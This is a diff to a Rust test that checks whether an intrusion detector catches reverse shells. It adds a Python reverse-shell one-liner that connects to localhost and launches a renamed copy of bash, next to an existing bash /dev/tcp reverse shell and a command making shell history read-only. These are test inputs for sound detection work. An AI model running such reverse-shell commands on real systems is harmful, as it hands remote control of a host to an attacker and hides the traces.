@@ -148,6 +148,34 @@ fn reverse_shells_are_caught() {
     let script = format!("chmod 0400 {0}; bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", history.display());
     intrude(&listener, &home, "/bin/bash", &script);
     detector.expect("Shell history made read-only", ".bash_history");
+
+    // The interpreter, a shell under a name of its own that is a copy, and a history that keeps nothing: one alert names
+    // all steps.
+    if Path::new("/usr/bin/python3").exists() {
+        let copy = home.join("renamed");
+        std::fs::copy("/bin/bash", &copy).expect("a copy");
+        let script = format!(
+            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);\
+             s.connect((\"127.0.0.1\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);\
+             p=subprocess.call([\"{}\",\"-i\"]);",
+            copy.display()
+        );
+        intrude(&listener, &home, "/usr/bin/python3", &script);
+        detector.expect("Reverse shell", "as=renamed");
+        let out = detector.text("out");
+        let whole = out.rfind('\n').map_or("", |end| &out[..end]);
+        let all = alerts(whole);
+        let of_copy = |alert: &&serde_json::Value| {
+            let output = alert["output"].as_str().unwrap_or_default();
+            alert["rule"] == "Reverse shell" && output.contains("as=renamed")
+        };
+        let found: Vec<_> = all.iter().filter(of_copy).collect();
+        let [alert] = &found[..] else { panic!("{found:?}") };
+        assert_eq!(alert["priority"], "Critical");
+        assert!(alert["output"].as_str().is_some_and(|output| output.contains(&to)), "{alert}");
+        let steps = alert["steps"].as_array().expect("steps").iter().map(|step| step["step"].clone());
+        assert_eq!(steps.collect::<Vec<_>>(), ["connect", "input", "shell"]);
+    }
 }
 
 #[test]
